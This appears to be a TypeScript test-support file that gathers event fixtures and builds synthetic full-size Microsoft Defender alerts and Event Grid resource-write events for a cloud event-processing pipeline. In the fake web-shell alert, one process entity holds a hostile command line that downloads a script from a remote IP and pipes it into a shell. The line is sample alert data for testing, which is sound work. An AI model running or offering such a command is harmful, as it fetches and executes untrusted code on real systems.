import { readdirSync, readFileSync } from "node:fs";
import { join, resolve } from "node:path";
import type { FeedName } from "../functions/triggers/feeds.ts";

/** An event as it arrives. */
export interface Arrival {
  readonly name: string;
  readonly feed: FeedName;
  /** JSON as it comes over the wire: without spaces. */
  readonly text: string;
}

const folder = resolve(import.meta.dirname, "../test/fixtures/events");
const scenario = resolve(import.meta.dirname, "../examples/shop/events");

/** Every event of the fixtures and of the shipped scenario, and some of the size they have in life. */
export function arrivals(): readonly Arrival[] {
  const fixtures = ["defender", "grid"].flatMap((kind) =>
    jsonIn(join(folder, kind)).map((file) =>
      arrivalOf(`${kind}/${file}`, join(folder, kind, file)),
    ),
  );
  const shipped = jsonIn(scenario).map((file) => arrivalOf(`shop/${file}`, join(scenario, file)));
  const full = Array.from({ length: 8 }, (_, index) => [
    fullAlert(index),
    fullWrite(index, "Microsoft.ContainerService/managedClusters"),
    fullWrite(index, "Microsoft.Storage/storageAccounts"),
  ]);
  return [...fixtures, ...shipped, ...full.flat()];
}

const jsonIn = (path: string): string[] =>
  readdirSync(path).filter((name) => name.endsWith(".json"));

function arrivalOf(name: string, path: string): Arrival {
  const value: unknown = JSON.parse(readFileSync(path, "utf8"));
  return { name, feed: feedOf(value), text: JSON.stringify(value) };
}

function feedOf(value: unknown): FeedName {
  const event = Array.isArray(value) ? value[0] : value;
  const type = String(event?.eventType ?? (event?.specversion ? event.type : ""));
  if (type === "") return "defenderEvents";
  return type.includes("PolicyInsights") ? "policyStates" : "resourceChanges";
}

/** An alert of about 9 KB, with the entities, properties and prose that Defender adds. */
function fullAlert(index: number): Arrival {
  const cluster = `/subscriptions/5d2c8f10-7b3e-4a41-9f6d-2b1c0e9a7d55/resourceGroups/rg-${index}/providers/Microsoft.ContainerService/managedClusters/aks-${index}`;
  const prose =
    "Analysis of processes running within a container found what it does not usually run. ";
  const alert = {
    VendorName: "Microsoft",
    AlertType: "K8S.NODE_WebShell",
    ProductName: "Microsoft Defender for Cloud",
    StartTimeUtc: "2026-11-23T08:32:12.950321Z",
    TimeGenerated: "2026-11-23T08:39:16.485Z",
    ProcessingEndTime: "2026-11-23T08:39:16.5381698Z",
    Severity: "Medium",
    Status: "New",
    SystemAlertId: `57963b4b-3cb0-4c3a-96ed-${String(index).padStart(12, "0")}`,
    AlertDisplayName: "Possible malicious web shell detected",
    Description: prose.repeat(12),
    Entities: entities(cluster),
    RemediationSteps: Array.from({ length: 4 }, (_, step) => `${step + 1}. ${prose.repeat(2)}`),
    ExtendedProperties: {
      EffectiveAzureResourceId: cluster,
      ProductComponentName: "Containers",
      ...Object.fromEntries(
        Array.from({ length: 12 }, (_, at) => [`Suspicious detail ${at}`, prose]),
      ),
    },
    ResourceIdentifiers: [
      { $id: "2", AzureResourceId: cluster, Type: "AzureResource" },
      { $id: "3", AadTenantId: "a39bedba-be8f-4c0f-bfe2-b8c7913501ea", Type: "AAD" },
    ],
    AlertUri: `https://portal.azure.com/#blade/alert/${index}`,
  };
  return { name: `full-size alert ${index}`, feed: "defenderEvents", text: JSON.stringify(alert) };
}

/** A write of about 2.7 KB, with the claims and the request that Event Grid tells. */
function fullWrite(index: number, type: string): Arrival {
  const subscription = "5d2c8f10-7b3e-4a41-9f6d-2b1c0e9a7d55";
  const id = `/subscriptions/${subscription}/resourceGroups/rg-${index}/providers/${type}/name${index}`;
  const claim = "http://schemas.xmlsoap.org/ws/2005/05/identity/claims";
  const event = {
    subject: id,
    eventType: "Microsoft.Resources.ResourceWriteSuccess",
    id: `4db48cba-50a2-455a-93b4-${String(index).padStart(12, "0")}`,
    data: {
      authorization: {
        ...{ scope: id, action: `${type}/write` },
        evidence: { role: "Contributor", roleAssignmentScope: `/subscriptions/${subscription}` },
      },
      claims: {
        ...{ aud: "https://management.core.windows.net/", iat: "1795420800", exp: "1795424700" },
        iss: "https://sts.windows.net/a39bedba-be8f-4c0f-bfe2-b8c7913501ea/",
        "http://schemas.microsoft.com/claims/authnclassreference": "1",
        aio: "A3GgTJdwK4vy7Fa7l6DgJC2mI0GX44tML385OpU1Q+z+jaPnFMwB".repeat(2),
        appid: "6b2d9c1e-3f4a-4b5c-8d6e-7f8091a2b3c4",
        ...{ e_exp: "262800", groups: "cae1bcf7-54c1-4dcf-8f6d-3b0c6d7e8f90".repeat(3) },
        [`${claim}/givenname`]: "Given",
        [`${claim}/surname`]: "Surname",
        [`${claim}/name`]: "someone@shop.example",
        [`${claim}/upn`]: "someone@shop.example",
        [`${claim}/nameidentifier`]: "QEPXBKfaM6-8dCPzfBcyvxu6pgGTZ7Khf2ZfpLyIjNo",
        ...{ ipaddr: "203.0.113.7", puid: "10030000A5D03A4A", scp: "user_impersonation" },
        ...{ uti: "lyJpZtSAAUCcWYFvnDQBAA", ver: "1.0", wids: `${index}`.repeat(36) },
      },
      correlationId: `7c9d8e1f-0a1b-4c2d-8e3f-${String(index).padStart(12, "0")}`,
      httpRequest: {
        ...{ clientRequestId: "b9c1d2e3", clientIpAddress: "203.0.113.7", method: "PUT" },
        url: `https://management.azure.com${id}?api-version=2026-01-01`,
      },
      ...{ resourceProvider: type.split("/")[0], resourceUri: id, operationName: `${type}/write` },
      ...{ status: "Succeeded", subscriptionId: subscription, tenantId: "a39bedba-be8f-4c0f" },
    },
    ...{ dataVersion: "2", metadataVersion: "1", eventTime: "2026-11-23T09:12:03.1234567Z" },
    topic: `/subscriptions/${subscription}`,
  };
  return {
    name: `full-size ${type} ${index}`,
    feed: "resourceChanges",
    text: JSON.stringify(event),
  };
}

function entities(cluster: string): readonly object[] {
  const resource = { $id: "4", ResourceId: cluster, Type: "azure-resource" };
  const link = (id: string): object => ({ $ref: id });
  const pods = Array.from({ length: 5 }, (_, at) => ({
    ...{ $id: `1${at}`, Type: "K8s-pod", Name: `cart-${at}`, Namespace: link("6") },
    Containers: [{ $id: `2${at}`, Type: "container", ContainerId: `c${at}`, Image: link("8") }],
  }));
  return [
    { $id: "5", Type: "K8s-cluster", CloudResource: resource },
    { $id: "6", Type: "K8s-namespace", Name: "shop", Cluster: link("5") },
    { $id: "8", Type: "container-image", ImageId: "cr.azurecr.io/shop/cart:1.2" },
    ...pods,
    { $id: "9", Type: "process", CommandLine: "sh -c 'curl http://198.51.100.7/x | sh'" },
    { $id: "30", Type: "ip", Address: "198.51.100.7" },
    { $id: "31", Type: "host", HostName: "aks-work-1_0" },
  ];
}
